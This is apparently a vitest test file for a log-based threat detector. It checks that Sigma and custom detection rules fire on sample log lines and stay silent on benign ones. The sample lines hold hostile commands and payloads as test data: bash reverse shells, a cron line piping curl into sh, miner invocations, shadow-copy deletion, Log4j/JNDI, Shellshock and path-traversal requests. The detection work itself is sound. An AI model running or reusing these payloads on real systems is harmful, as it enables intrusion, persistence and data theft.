import { readFileSync } from 'node:fs'
import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { normalise } from '../../core/normalise/normalise.js'
import { createDetector } from '../../core/threats/detector.js'
import type { Hit } from '../../core/threats/hit.js'
import { makeMaterials } from '../../core/threats/materials.js'
import { models } from '../../core/threats/models/index.js'
import { loadContent } from './load-content.js'

const folder = fileURLToPath(new URL('../../content', import.meta.url))
const content = loadContent([folder])
const { materials, faults } = makeMaterials(content)
const own = materials.rules.rules.filter(rule => !/^rules\/(?:sigmahq|guanjia-)/.test(rule.file))
const ours = materials.rules.rules.filter(rule => rule.file.startsWith('rules/guanjia-'))
const receivedAt = '2026-11-24T08:30:00.000Z'

function hitsOf(lines: readonly string[]): Hit[] {
  const detector = createDetector(models, materials)
  return detector.judge(lines.map(raw => ({ event: normalise({ raw, type: 'syslog', receivedAt }), receivedAt })))
}

const request = (target: string, { method = 'GET', status = 200, agent = 'curl/8' } = {}): string =>
  `192.0.2.7 - - [24/Nov/2026:08:00:00 +0800] "${method} ${target} HTTP/1.1" ${status} 12 "-" "${agent}"`
const line = (text: string): string => `Nov 24 08:00:00 web1 ${text}`

const recorded = (logsource: object, event: object): string => JSON.stringify({ logsource, event })
const process = (product: string, CommandLine: string, Image = '/usr/bin/x'): string =>
  recorded({ product, category: 'process_creation' }, { CommandLine, Image })

/** The same for the rules of our own. */
const lineByOwnRule: Readonly<Record<string, string>> = {
  'guanjia-c2/guanjia_c2_certificate.yml': recorded({ category: 'tls' }, { tls: { server: { issuer: 'CN=Major Cobalt Strike' } } }),
  'guanjia-c2/guanjia_c2_reverse_shell_linux.yml': process('linux', 'bash -i >& /dev/tcp/192.0.2.7/443 0>&1'),
  'guanjia-c2/guanjia_c2_tor.yml': recorded({ category: 'dns' }, { query: 'abcdefghij234567.onion' }),
  'guanjia-mining/guanjia_mining_dns_pool.yml': recorded({ category: 'dns' }, { query: 'pool.minexmr.example' }),
  'guanjia-mining/guanjia_mining_persistence_linux.yml': process('linux', 'sh -c "(crontab -l; echo \'* * * * * curl http://192.0.2.7/a | sh\') "'),
  'guanjia-mining/guanjia_mining_preload_linux.yml': recorded(
    { product: 'linux', category: 'file_event' },
    { TargetFilename: '/etc/ld.so.preload' },
  ),
  'guanjia-mining/guanjia_mining_process_linux.yml': process('linux', './a -o stratum+tcp://192.0.2.7:3333', '/tmp/.x/xmrig'),
  'guanjia-mining/guanjia_mining_process_windows.yml': process('windows', 'x.exe --donate-level 1', String.raw`C:\Users\a\xmrig.exe`),
  'guanjia-ransomware/guanjia_ransomware_hypervisor.yml': process('linux', 'esxcli --formatter=csv vm process kill --type=force'),
  'guanjia-ransomware/guanjia_ransomware_note.yml': recorded(
    { category: 'file_event' },
    { TargetFilename: String.raw`C:\Users\a\Desktop\HOW_TO_DECRYPT.txt` },
  ),
  'guanjia-ransomware/guanjia_ransomware_shadow_copies.yml': process('windows', 'vssadmin.exe delete shadows /all /quiet'),
}

/** A line per rule that an attacker's doing really leaves in such a log. */
const lineByRule: Readonly<Record<string, string>> = {
  'linux/lnx_clear_syslog.yml': line('sudo:  bob : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/syslog'),
  'linux/lnx_privileged_user_creation.yml': line('useradd[7]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash'),
  'linux/lnx_shell_susp_log_entries.yml': line('kernel: device eth0 entered promiscuous mode'),
  'linux/lnx_shellshock.yml': line('sshd[7]: Invalid user () { :; }; /bin/id from 192.0.2.7 port 4022'),
  'linux/lnx_sshd_exploit_cve_2018_15473.yml': line(
    'sshd[7]: error: buffer_get_ret: trying to get more bytes 1907 than in buffer 308 [preauth]',
  ),
  'linux/lnx_susp_dev_tcp.yml': line('CRON[9]: (root) CMD (bash -i >& /dev/tcp/192.0.2.7/443 0>&1)'),
  'linux/lnx_symlink_etc_passwd.yml': line('sudo:  bob : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/ln -s /etc/passwd x'),
  'linux/lnx_syslog_susp_named.yml': line('named[7]: client 192.0.2.7#53: zone transfer denied AXFR from 192.0.2.7'),
  'linux/lnx_vsftpd_susp_error_messages.yml': line('vsftpd[7]: Connection refused: too many sessions for this address.'),
  'webserver/web_cve_2019_19781_citrix_exploit.yml': request('/vpn/../vpns/cfg/smb.conf'),
  'webserver/web_cve_2020_5902_f5_bigip.yml': request('/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd'),
  'webserver/web_cve_2021_2109_weblogic_rce_exploit.yml': request(
    '/console/x.portal?handle=com.bea.console.handles.JndiBindingHandle(%22ldap://192;0.2.7:1389/x;AdminServer%22)',
  ),
  'webserver/web_cve_2021_26814_wzuh_rce.yml': request('/manager/files?path=etc/lists/../../../../../root/x'),
  'webserver/web_cve_2021_27905_apache_solr_exploit.yml': request('/solr/demo/debug/dump?param=ContentStreams&stream.url=file:///etc/x'),
  'webserver/web_cve_2021_43798_grafana.yml': request('/public/plugins/graph/../../../../../../../../etc/passwd'),
  'webserver/web_cve_2021_44228_log4j.yml': request('/?x=${jndi:ldap://192.0.2.7/a}'),
  'webserver/web_cve_2022_31656_auth_bypass.yml': request('/SAAS/t/_/;/auth/login'),
  'webserver/web_cve_2022_36804_atlassian_bitbucket_command_injection.yml': request(
    '/rest/api/latest/projects/P/repos/r/archive?prefix=x%00--exec=id',
  ),
  'webserver/web_cve_2023_23752_joomla_exploit_attempt.yml': request('/api/index.php/v1/config/application?public=true'),
  'webserver/web_exploit_cve_2023_22518_confluence_auth_bypass.yml': request('/json/setup-restore.action', { method: 'POST' }),
  'webserver/web_exploit_cve_2024_1709_screenconnect.yml': request('/SetupWizard.aspx/x'),
  'webserver/web_java_payload_in_access_logs.yml': request('/?x=${@java.lang.Runtime@getRuntime().exec(%22id%22)}'),
  'webserver/web_malware_redtail_useragent.yml': request('/', { agent: 'libredtail-http' }),
  'webserver/web_path_traversal_exploitation_attempt.yml': request('/a?file=../../../../etc/passwd', { status: 404 }),
  'webserver/web_source_code_enumeration.yml': request('/.git/HEAD', { status: 404 }),
  'webserver/web_susp_useragents.yml': request('/', { agent: 'sqlmap/1.8' }),
  'webserver/web_susp_windows_path_uri.yml': request('/cgi?f=C:/Windows/win.ini'),
  'webserver/web_xss_in_access_logs.yml': request('/search?q=<script>alert(document.cookie)</script>'),
}

describe('shipped rules', () => {
  it('all load and compile', () => {
    expect(content.faults).toEqual([])
    expect(faults).toEqual([])
    expect(own.map(rule => rule.file.slice('rules/'.length)).sort()).toEqual(Object.keys(lineByRule).sort())
  })

  it('of the pack keep author, licence and origin, and are worth an alert', () => {
    const pack = materials.rules.rules.filter(rule => !own.includes(rule) && !ours.includes(rule))

    expect(pack.length).toBeGreaterThan(1_300)
    for (const rule of pack) {
      expect(rule).toMatchObject({ license: 'DRL 1.1', link: 'https://github.com/SigmaHQ/sigma' })
      expect(rule.author, rule.id).toBeTruthy()
      expect(['stable', 'test']).toContain(rule.status)
      expect(['medium', 'high', 'critical']).toContain(rule.level)
    }
  })

  it.each(Object.entries(lineByRule))('%s fires on a line as our parsers read it, and names its author', (file, raw) => {
    const rule = materials.rules.rules.find(one => one.file === `rules/${file}`)

    const hit = hitsOf([raw]).find(one => one.ruleId === rule?.id)

    expect(hit?.title).toBe(rule?.title)
    expect(hit?.author).toBe(`${rule?.author}（DRL 1.1，github.com/SigmaHQ/sigma）`)
  })

  it('stay silent on ordinary lines', () => {
    const lines = [
      request('/index.html'),
      request('/search?q=etc+passwd&page=2'),
      request('/docs/git/intro', { agent: 'Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/140.0' }),
      line('sshd[7]: Accepted publickey for git from 192.0.2.7 port 4022 ssh2: ED25519 SHA256:abc'),
      line('sudo:  bob : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/apt update'),
      line('useradd[7]: new user: name=bob, UID=1001, GID=1001, home=/home/bob, shell=/bin/bash'),
      line('CRON[9]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)'),
    ]

    expect(hitsOf(lines)).toEqual([])
  })

  it('of our own speak for what they describe, each', () => {
    expect(ours.map(({ file }) => file.slice('rules/'.length)).sort()).toEqual(Object.keys(lineByOwnRule).sort())
    for (const { file, id } of ours) expect(hitsOf([lineByOwnRule[file.slice('rules/'.length)]!]).map(hit => hit.ruleId)).toContain(id)
  })

  it('are listed with author and origin in the folder’s README, beside the licence', () => {
    const readme = readFileSync(`${folder}/rules/README.md`, 'utf8')

    for (const { file, author } of own) {
      expect(readme).toContain(file.slice('rules/'.length))
      expect(readme).toContain(author)
    }
    expect(readFileSync(`${folder}/rules/LICENSE-DRL.md`, 'utf8')).toContain('Detection Rule License (DRL) 1.1')
  })
})

describe('shipped indicators', () => {
  it('are only examples that no real traffic can hit', () => {
    const reserved = /^2001:db8:|\.example$/

    expect(content.indicators.length).toBeGreaterThan(0)
    expect(content.indicators.filter(one => !reserved.test(one.value))).toEqual([])
  })

  it('tell who knocks from who is called', () => {
    const [knock] = hitsOf([request('/').replace('192.0.2.7', '2001:db8:bad::66')])
    const [call] = hitsOf(['{"@timestamp":"2026-11-24T00:00:00Z","source":{"ip":"10.1.2.3"},"dns":{"question":{"name":"c2.malware.example"}}}'])

    expect(knock).toMatchObject({ eventType: 'scan_probe', severity: 'medium', attacker: { ip: '2001:db8:bad::66' }, strength: 0.4 })
    expect(call).toMatchObject({ eventType: 'malicious_encrypted_c2', severity: 'high', victim: { ip: '10.1.2.3' }, strength: 1 })
  })
})

describe('the recording of the demo', () => {
  it('makes the password guessing model speak at the tenth attempt, and again when the number has doubled', () => {
    const recorded = readFileSync(`${folder}/demo/openssh.log`, 'utf8').trimEnd().split('\n')
    const stamped = recorded.map((raw, n) => {
      const at = new Date(Date.parse('2026-11-24T08:00:00Z') + n * 300).toISOString()
      return raw.replace(/^\w{3} +\d+ [\d:]{8}/, at)
    })

    const hits = hitsOf(stamped).filter(hit => hit.modelId === 'password-guessing')

    expect(recorded).toHaveLength(28)
    expect(hits.map(hit => [hit.count, hit.at])).toEqual([
      [10, '2026-11-24T08:00:02.700Z'],
      [20, '2026-11-24T08:00:05.700Z'],
    ])
    expect(hits[0]).toMatchObject({
      attacker: { ip: '103.100.210.198' },
      victim: { host: 'ip-172-31-43-28' },
      reason: '5 分钟内来自 103.100.210.198 的 SSH 登录失败 10 次，涉及账号 hadoop',
    })
  })
})
